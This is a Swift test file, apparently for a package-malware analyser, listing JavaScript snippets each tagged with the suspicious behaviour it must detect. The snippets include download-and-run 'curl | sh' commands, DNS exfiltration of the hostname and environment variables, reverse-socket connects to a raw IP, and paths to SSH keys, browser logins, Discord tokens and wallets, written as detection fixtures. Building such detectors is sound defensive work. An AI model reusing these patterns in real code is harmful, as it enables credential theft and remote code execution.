import LockgateCore
import Testing

/// One rule example: a behaviour kind and marked source (`↓` before each token where it must be reported).
struct JavaScriptExample: CustomTestStringConvertible, Sendable {
    var kind: BehaviourKind
    var source: String
    var testDescription: String { "\(kind.rawValue): \(source.prefix(60))" }

    init(_ kind: BehaviourKind, _ source: String) {
        self.kind = kind
        self.source = source
    }
}

/// Triggering examples for every behaviour that applies to JavaScript, with the evasions of issue #4.
enum JavaScriptBehaviourExamples {
    static let triggering: [JavaScriptExample] = [
        // Process module, aliases, destructuring, member chains, bracket access.
        .init(.importProcessModule, "const cp = ↓require('child_process');"),
        .init(.importProcessModule, "const cp = ↓require(\"node:child_process\");"),
        .init(.importProcessModule, "↓import { exec as run } from 'child_process';"),
        .init(.importProcessModule, "↓import * as cp from 'child_process';"),
        .init(.importProcessModule, "const m = 'child_' + 'process';\nconst cp = ↓require(m);"),
        .init(.importProcessModule, "const cp = await ↓import('child_process');"),
        .init(.importProcessModule, "const cp = module.↓require('child_process');"),
        .init(.importProcessModule, "const cp = global↓['req' + 'uire']('child_process');"),
        .init(.importProcessModule, "process.mainModule.↓require('child_process').exec('id');"),
        .init(
            .importNetworkModule,
            "var require = global.require || global.process.mainModule.constructor._load;\nvar net = ↓require('net');"),
        .init(.importProcessModule, "const load = process.mainModule.constructor._load;\nconst cp = ↓load('child_process');"),
        .init(.spawnProcess, "var req = global.require ?? module.require;\nreq('child_process').↓spawn('/bin/sh');"),
        .init(.spawnProcess, "const cp = require('child_process');\ncp.↓exec('id');"),
        .init(.spawnProcess, "const { exec: run } = require('child_process');\n↓run('id');"),
        .init(.spawnProcess, "const cp = require('child_process');\nconst { execSync } = cp;\n↓execSync('id');"),
        .init(.spawnProcess, "require('child_process').↓spawn('sh', ['-c', 'id']);"),
        .init(.spawnProcess, "const cp = require('child_process');\ncp↓['ex' + 'ec']('id');"),
        .init(.spawnProcess, "import { execFile } from 'child_process';\n↓execFile('/bin/ls');"),
        .init(.spawnProcess, "const c = require('child_process');\nconst r = c;\nr.↓fork('x.js');"),
        .init(.spawnProcess, "const execa = require('execa');\n↓execa('id');"),
        .init(.hiddenProcess, "const cp = require('child_process');\ncp.↓spawn('x', [], { detached: true });"),
        .init(.hiddenProcess, "const cp = require('child_process');\ncp.spawn('x', []).↓unref();"),
        .init(.hiddenProcess, "const cp = require('child_process');\nconst c = cp.spawn('x');\nc.↓unref();"),
        .init(.shellCommand, "const cp = require('child_process');\ncp.exec(↓'curl -s http://x.io/a | sh');"),
        .init(.shellCommand, "const c = ↓'cur' + 'l http://a.b/c | ba' + 'sh';"),
        .init(.shellCommand, "let c = 'cu';\nc += ↓'rl http://a.b/c | sh';"),
        .init(.shellCommand, "const c = ↓Buffer.from('Y3VybCBodHRwOi8vYS5iL2MgfCBzaA==', 'base64').toString();"),
        // OS.
        .init(.importOSModule, "const os = ↓require('os');"),
        .init(.reconHost, "const os = require('os');\nconst h = os.↓hostname();"),
        .init(.reconHost, "const { userInfo } = require('os');\n↓userInfo().username;"),
        .init(.reconHost, "import os from 'os';\nos.↓networkInterfaces();"),
        .init(.useOSModule, "const os = require('os');\nos.↓cpus();"),
        // Files.
        .init(.importFileSystemModule, "const fs = ↓require('fs');"),
        .init(.importFileSystemModule, "const fs = ↓require('fs/promises');"),
        .init(.readFile, "const fs = require('fs');\nfs.↓readFileSync('a.txt');"),
        .init(.readFile, "const fs = require('fs');\nawait fs.promises.↓readFile('a.txt');"),
        .init(.readFile, "const { readdirSync: ls } = require('graceful-fs');\n↓ls('.');"),
        .init(.writeFile, "const fs = require('fs');\nfs.↓writeFileSync('a.txt', 'x');"),
        .init(.writeFile, "const fse = require('fs-extra');\nfse.↓outputFile('a.txt', 'x');"),
        .init(.readCredentialPath, "const p = ↓'/.ssh/id_rsa';"),
        .init(.readCredentialPath, "const p = ↓'.np' + 'mrc';"),
        .init(.readSystemAccounts, "require('fs').readFileSync(↓'/etc/passwd');"),
        .init(.readBrowserStore, "const p = ↓'Google/Chrome/User Data/Default/Login Data';"),
        .init(.readDiscordStore, "const p = ↓'discord/Local Storage/leveldb';"),
        // Strings an old keyword pre-filter of the analyser dropped before `StringSignals` saw them.
        .init(.readDiscordStore, "const parts = text.split(↓'dQw4w9WgXcQ:');"),
        .init(.readDiscordStore, "const p = ↓'Lightcord';"),
        .init(.shellCommand, "require('child_process').execSync(↓'wmic csproduct get uuid');"),
        .init(.readBrowserStore, "const p = path.join(home, ↓'Vivaldi/User Data');"),
        .init(.url, "fetch(↓'http://localhost:8080/api');"),
        .init(.urlRawIP, "const u = ↓'http://[2001:db8::1]/x';"),
        .init(.urlRawIP, "const net = require('net');\nconst s = net.↓connect(4444, '45.9.1.2');"),
        .init(.readCryptoWallet, "const p = ↓'Exodus/exodus.wallet';"),
        .init(.persistence, "const fs = require('fs');\nfs.appendFileSync(↓'/home/u/.bashrc', 'x');"),
        // Environment.
        .init(.readEnvironmentVariable, "const t = process.env.↓NPM_TOKEN;"),
        .init(.readEnvironmentVariable, "const t = process.env↓['AWS_SECRET'];"),
        .init(.readEnvironmentVariable, "const e = process.env;\nconst t = e.↓HOME;"),
        .init(.readEnvironmentVariable, "const { ↓HOME } = process.env;"),
        .init(.readEnvironmentAll, "const s = JSON.stringify(↓process.env);"),
        .init(.readEnvironmentAll, "Object.entries(↓process.env);"),
        .init(.readEnvironmentAll, "const all = { ...↓process.env };"),
        .init(.readEnvironmentAll, "for (const k in ↓process.env) {}"),
        .init(.readEnvironmentAll, "for (k in ↓process.env) send(k);"),
        .init(.readEnvironmentAll, "const e = process.env;\nsend(↓e);"),
        .init(.readEnvironmentAll, "const { execSync } = require('child_process');\nconst all = ↓execSync('env');"),
        // Network and URLs.
        .init(.importNetworkModule, "const https = ↓require('https');"),
        .init(.importNetworkModule, "↓import axios from 'axios';"),
        .init(.useNetwork, "const https = require('https');\nhttps.↓get('https://example.com');"),
        .init(.useNetwork, "const axios = require('axios');\naxios.post;\naxios.↓post('u', {});"),
        .init(.useNetwork, "const fetch = require('node-fetch');\n↓fetch('u');"),
        .init(.useNetwork, "↓fetch('https://example.com');"),
        .init(.useNetwork, "const net = require('net');\nconst s = new net.Socket();\ns.↓connect(4444, 'h');"),
        .init(.useNetwork, "const ws = new ↓WebSocket('wss://example.com');"),
        .init(.useNetwork, "const x = new XMLHttpRequest();\nx.open('GET', 'u');\nx.↓send();"),
        .init(.url, "const u = ↓'https://example.com/x';"),
        .init(.urlWebhook, "const u = ↓'https://discord.com/api/webhooks/1/abc';"),
        .init(.urlWebhook, "const u = ↓atob(↓'aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS9h');"),
        .init(.urlTunnel, "const u = ↓`https://${'abc.ngrok'}.io/`;"),
        .init(.urlOutOfBand, "fetch(↓'https://x.oa' + 'st.fun/');"),
        .init(.urlRawIP, "const u = ↓'http://45.9.1.2/p';"),
        .init(
            .urlPaste,
            "const u = ↓String.fromCharCode(104,116,116,112,115,58,47,47,112,97,115,116,101,98,105,110,46,99,111,"
                + "109,47,114,97,119);"
        ),
        .init(.reconPublicIP, "fetch(↓'https://api.ipify.org');"),
        .init(.urlDynamicDNS, "const u = ↓'h.duckdns.org';"),
        .init(.urlAppHosting, "fetch(↓'https://c-x.onrender.com/u', {method: 'POST'});"),
        .init(.urlWebhook, "const token = ↓'8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac';"),
        .init(.dnsLookup, "const dns = require('dns');\ndns.↓lookup('example.com', () => {});"),
        .init(.dnsLookup, "require('child_process').↓exec('nslookup example.com');"),
        .init(.urlPaste, "const u = ↓'https://media.discordapp.net/attachments/1/2/x.exe';"),
        .init(
            .dnsExfiltration,
            "const dns = require('dns');\nconst os = require('os');\ndns.↓lookup(os.hostname() + '.x.com');"),
        .init(.dnsExfiltration, "const dns = require('dns');\ndns.↓resolve(`${process.env.USER}.x.com`);"),
        .init(.dnsExfiltration, "const dns = require('dns');\nfunction f(d) { dns.↓lookup(d + '.x.com'); }"),
        // Encoding.
        .init(.importEncodingModule, "const zlib = ↓require('zlib');"),
        .init(.useEncoding, "const s = Buffer.↓from(data, 'base64');"),
        .init(.useEncoding, "const s = Buffer.↓from('6375726c', 'hex').toString();"),
        .init(.useEncoding, "const s = ↓atob(x);"),
        .init(.useEncoding, "const zlib = require('zlib');\nzlib.↓inflateSync(b);"),
        .init(.useEncoding, "const n = String.↓fromCharCode(114, 101, 113, 117, 105, 114, 101);"),
        .init(.useEncoding, "const n = 'ssecorp_dlihc'.split('').reverse().↓join('');"),
        .init(.base64String, "const b = ↓'aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgYmFzZTY0IGJsb2I=';"),
        .init(.longString, "const b = ↓'" + String(repeating: "ab cd ", count: 200) + "';"),
        // Evaluation.
        .init(.evalCode, "↓eval('1 + 1');"),
        .init(.evalCode, "const e = eval;\n↓e(code);"),
        .init(.evalCode, "global↓['ev' + 'al'](code);"),
        .init(.evalCode, "const f = new ↓Function('a', 'return a');"),
        .init(.evalCode, "↓Function(code)();"),
        .init(.evalCode, "↓setTimeout('alert(1)', 10);"),
        .init(.evalCode, "↓setTimeout('run(' + id + ')', 10);"),
        .init(.evalCode, "const make = Function.↓apply(null, ['a', 'return a + 1']);"),
        .init(.evalCode, "eval.↓call(null, code);"),
        .init(.evalCode, "const vm = require('vm');\nvm.↓runInThisContext(code);"),
        .init(.evalCode, "const vm = require('vm');\nvm.↓runInNewContext(code, {});"),
        .init(.evalCode, "const vm = require('vm');\nnew vm.↓Script(code);"),
        .init(.evalCode, "↓(0, eval)(code);"),
        .init(.evalCode, "↓\\u0065val(code);"),
        .init(.packedEval, "↓eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}));"),
        .init(.escapedIdentifiers, "↓\\u0065val(code);"),
        .init(.escapedIdentifiers, "const r = global[↓'\\x72\\x65\\x71\\x75\\x69\\x72\\x65'];"),
        .init(
            .offscreenCode, "'use strict';" + String(repeating: " ", count: 150) + "↓require('child_process').exec('id');"),
        // Download/write then execute.
        .init(
            .downloadExecute,
            """
            const https = require('https');
            https.get('https://x.io/p', (res) => {
              let body = '';
              res.on('data', (c) => { body += c; });
              res.on('end', () => ↓eval(body));
            });
            """),
        .init(.downloadExecute, "fetch(u).then(r => r.text()).then(t => ↓eval(t));"),
        .init(.downloadExecute, "const cp = require('child_process');\ncp.↓exec('curl -s https://x.example/i | sh');"),
        .init(.downloadExecute, "const r = await fetch(u);\nconst code = await r.text();\nnew ↓Function(code)();"),
        .init(
            .downloadExecute,
            """
            const { execSync } = require('child_process');
            const axios = require('axios');
            const res = await axios.get(u);
            ↓execSync(res.data);
            """),
        .init(
            .downloadExecute,
            """
            const fs = require('fs');
            const cp = require('child_process');
            const r = await fetch(u);
            fs.writeFileSync('/tmp/p', await r.text());
            cp.↓exec('sh /tmp/p');
            """),
        .init(
            .writeExecute,
            """
            const fs = require('fs');
            const cp = require('child_process');
            fs.writeFileSync('/tmp/run.sh', 'echo hi');
            fs.↓chmodSync('/tmp/run.sh', 0o755);
            cp.↓execFile('/tmp/run.sh');
            """),
        .init(
            .writeExecute,
            """
            const fs = require('fs');
            const file = path.join(dir, 'x.js');
            fs.writeFileSync(file, payload);
            ↓require(file);
            """),
        // Obfuscation.
        .init(
            .obfuscatedIdentifiers,
            """
            var ↓_0x3f2a = ['log'], _0x1b4c = function (_0x5d21, _0x2e8f) { return _0x3f2a[_0x5d21]; };
            console[_0x1b4c(0)](_0x2e8f);
            """),
    ]
}
